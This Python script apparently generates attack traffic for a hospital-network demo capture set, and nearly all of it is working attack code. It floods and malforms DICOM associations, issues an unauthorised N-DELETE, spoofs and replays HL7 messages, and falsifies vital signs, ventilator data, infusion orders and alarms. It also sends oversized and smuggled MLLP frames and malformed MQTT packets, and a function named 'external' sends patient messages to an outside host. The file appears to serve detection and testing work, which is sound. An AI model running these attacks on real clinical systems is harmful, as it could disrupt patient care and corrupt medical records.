"""Attacks no program offers, run inside the attacker's namespace: raw.py NAME WORKDIR VICTIM [MORE].

HL7 messages go by mllp_send of python3-hl7 where one message a connection will do, else over our own link.
"""

import os
import socket
import struct
import subprocess
import sys
import time

sys.path.insert(1, os.path.normpath(f"{os.path.dirname(os.path.abspath(__file__))}/../../../pcaps/ward-demo/maker"))

import hl7  # noqa: E402
from attacks import associate_rq, echo_pdata, read_some  # noqa: E402
from hosts import BY_KEY  # noqa: E402

ARCHIVE = "WARDPACS"


def own_address():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect(("10.77.3.10", 9))
    return s.getsockname()[0]


ME = next((h.key for h in BY_KEY.values() if h.ip == own_address()), "")


def unique():
    return f"{int(time.time() * 1000) % 10**9:09d}"


def mllp_send(work, victim, text):
    path = f"{work}/sent-{ME}.hl7"
    with open(path, "w", newline="") as f:
        f.write(text)
    subprocess.run(["mllp_send", "-q", "-p", "2575", "--loose", "-f", path, victim], check=False, timeout=15)


def dial(victim, port=11112):
    s = socket.create_connection((victim, port), 3)
    s.settimeout(2)
    return s


def association_flood(_work, victim):
    held = []
    for _ in range(90):
        s = dial(victim)
        s.sendall(associate_rq("CT1", ARCHIVE))
        held.append(s)
        time.sleep(0.03)
    time.sleep(0.5)
    for s in held:
        s.close()


def abandoned(_work, victim):
    for _ in range(14):
        s = dial(victim)
        s.sendall(associate_rq("CT1", ARCHIVE))
        read_some(s)
        s.close()
        time.sleep(0.2)


def violation(_work, victim):
    s = dial(victim)
    s.sendall(echo_pdata())
    read_some(s)
    s.close()


def malformed(_work, victim):
    """A PDU type that does not exist, first on an association, then as the first octets; a length nobody can mean."""
    for before in (associate_rq("CT1", ARCHIVE), b""):
        s = dial(victim)
        s.sendall(before)
        if before:
            read_some(s)
        s.sendall(struct.pack("!BBI", 9, 0, 40) + b"A" * 40)
        read_some(s)
        s.close()
    s = dial(victim)
    rq = associate_rq("CT1", ARCHIVE)
    s.sendall(rq[:2] + struct.pack("!I", 0x7fffffff) + rq[6:])
    read_some(s)
    s.close()


def context(_work, victim):
    s = dial(victim)
    s.sendall(associate_rq("CT1", ARCHIVE))
    read_some(s)
    p = bytearray(echo_pdata())
    p[10] = 77  # presentation-context-ID of the PDV
    s.sendall(bytes(p))
    read_some(s)
    s.close()


def max_length(_work, victim):
    s = dial(victim)
    rq = associate_rq("CT1", ARCHIVE)
    s.sendall(rq.replace(struct.pack("!BBHI", 0x51, 0, 4, 16384), struct.pack("!BBHI", 0x51, 0, 4, 128)))
    read_some(s)
    s.close()


def delete(_work, victim):
    """An N-DELETE-RQ (PS3.7 10.3.6) on an association for Verification, as a probing tool would."""
    s = dial(victim)
    s.sendall(associate_rq("VIEWER1", ARCHIVE))
    read_some(s)

    def el(element, value):
        return struct.pack("<HHI", 0, element, len(value)) + value
    body = (el(0x0003, b"1.2.840.10008.3.1.2.3.3\0") + el(0x0100, struct.pack("<H", 0x150))
            + el(0x0110, struct.pack("<H", 1)) + el(0x0800, struct.pack("<H", 0x0101)) + el(0x1001, b"2.25.770000000001\0"))
    command = el(0x0000, struct.pack("<I", len(body))) + body
    pdv = struct.pack("!IBB", len(command) + 2, 1, 3) + command
    s.sendall(struct.pack("!BBI", 4, 0, len(pdv)) + pdv)
    read_some(s)
    s.close()


HEART = ("147842^MDC_ECG_HEART_RATE", 74, "264864^MDC_DIM_BEAT_PER_MIN")


def unknown_sender(work, victim):
    mllp_send(work, victim, hl7.oru("GATEWAY9", "NOWHERE", f"X{unique()}", "P90001", [HEART]))


def borrowed_sender(work, victim):
    mllp_send(work, victim, hl7.oru("MONITOR", "ICU1", f"MON1{unique()}", "P90001", [HEART]))


def replay(work, victim):
    with open(f"{work}/last-{ME}.hl7", newline="") as f:
        text = f.read()
    time.sleep(3)
    mllp_send(work, victim, text.replace("|NM|147842^MDC_ECG_HEART_RATE^^MDC|1.0.0.1|", "|NM|147842^MDC_ECG_HEART_RATE^^MDC|1.0.0.1|1"))


def many(victim, count, make, pause=0.0, port=2575):
    link = hl7.Link(victim, port)
    for n in range(count):
        link.send(make(n))
        time.sleep(pause)
    link.close()


def adt(n, event, extra=""):
    now = hl7.stamp()
    return (f"MSH|^~\\&|HIS|WARD|ENGINE|WARD|{now}||ADT^{event}|M{unique()}{n:03d}|P|2.6\rEVN|{event}|{now}\r"
            f"PID|||P{n:05d}^^^WARD^PI||DEMO^PATIENT{n:03d}\r{extra}")


def merges(_work, victim):
    many(victim, 24, lambda n: adt(n, "A40", f"MRG|P{n + 500:05d}^^^WARD^PI\r"), 0.1)


def implausible(_work, victim):
    patient = f"P9000{ME[-1]}"
    many(victim, 6, lambda n: hl7.oru("MONITOR", "ICU1", f"{ME.upper()}{unique()}", patient, [
        ("147842^MDC_ECG_HEART_RATE", 420, HEART[2]), ("150456^MDC_PULS_OXIM_SAT_O2", 7, "262688^MDC_DIM_PERCENT")]), 0.4)


def unit(_work, victim):
    patient = f"P9000{ME[-1]}"
    many(victim, 6, lambda n: hl7.oru("VENT", "ICU1", f"{ME.upper()}{unique()}", patient, [
        ("151562^MDC_VENT_RESP_RATE", 15, "264928^MDC_DIM_RESP_PER_MIN"),
        ("151868^MDC_VENT_VOL_TIDAL", "0.46", "263744^MDC_DIM_L"),
        ("151976^MDC_VENT_PRESS_MAX_PEAK", "1.9", "265987^MDC_DIM_KILO_PASCAL")]), 0.4)


def infusion(work, victim):
    now = hl7.stamp()
    mllp_send(work, victim, f"MSH|^~\\&|HIS|WARD|PUMPGW|ICU1|{now}||RGV^O15^RGV_O15|R{unique()}|P|2.6\r"
              "PID|||P90001^^^WARD^PI||DEMO^P90001\rORC|RE|O77^HIS||||||||||\rRXG|1||20300101||1234^Drug^X|500||263762^ml\r")


def queries(_work, victim):
    many(victim, 45, lambda n: f"MSH|^~\\&|HIS|WARD|ENGINE|WARD|{hl7.stamp()}||QRY^A19|Q{unique()}{n:03d}|P|2.6\r"
         f"QRD|{hl7.stamp()}|R|I|Q{n:03d}|||1^RD|P{n:05d}|DEM\r", 0.1)


def hl7_flood(_work, victim):
    app = "LAB|LAB1" if ME == "lab1" else "HIS|WARD"
    many(victim, 900, lambda n: hl7.oru(*app.split("|"), f"F{unique()}{n:04d}", "P00001", [("2823-3^Potassium", 4, "mmol/L")]))


def bomb(_work, victim):
    s = dial(victim, 2575)
    s.settimeout(15)
    s.sendall(b"\x0b" + hl7.oru("LAB", "LAB1", f"B{unique()}", "P00001", [("2823-3^Potassium", 4, "mmol/L")]).encode())
    try:
        for _ in range(110):
            s.sendall(b"NTE|1||" + b"A" * 99_000 + b"\r")
        s.sendall(b"\x1c\x0d")
        read_some(s)
    except OSError:
        pass
    s.close()


def smuggling(_work, victim):
    s = dial(victim, 2575)
    text = hl7.oru("LAB", "LAB1", f"S{unique()}", "P00001", [("2823-3^Potassium", 4, "mmol/L")]).encode()
    for end in (b"\x1c\x0a", b"\x1c"):
        s.sendall(b"\x0b" + text + end)
        time.sleep(0.5)
    s.sendall(b"\x0b" + text + b"\x1c\x0d")
    read_some(s)
    s.close()


def alarms(_work, victim):
    def alarm(n):
        text = hl7.oru("MONITOR", "ICU1", f"{ME.upper()}{unique()}{n:02d}", f"P9000{ME[-1]}", [("196648^MDC_EVT_HI", 1, "")])
        return text.replace("ORU^R01^ORU_R01", "ORU^R40^ORU_R40")
    many(victim, 60, alarm, 0.1)


def external(_work, _victim, outside):
    s = dial(outside, 8443)
    for n in range(4):
        s.sendall(hl7.frame(hl7.oru(ME[:-1].upper(), "ICU1", f"{ME.upper()}{unique()}", f"P9000{ME[-1]}", [HEART])))
        time.sleep(0.5)
    s.close()


def mqtt_malformed(_work, victim):
    for octets in (b"\xf0\x00", b"\x10\xff\xff\xff\xff\x7f", b"\x36\x05\x00\x01a\x00\x01", b"\x30\x03\x00\x01a"):
        s = dial(victim, 1883)
        s.sendall(octets)
        read_some(s)
        s.close()
        time.sleep(0.2)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
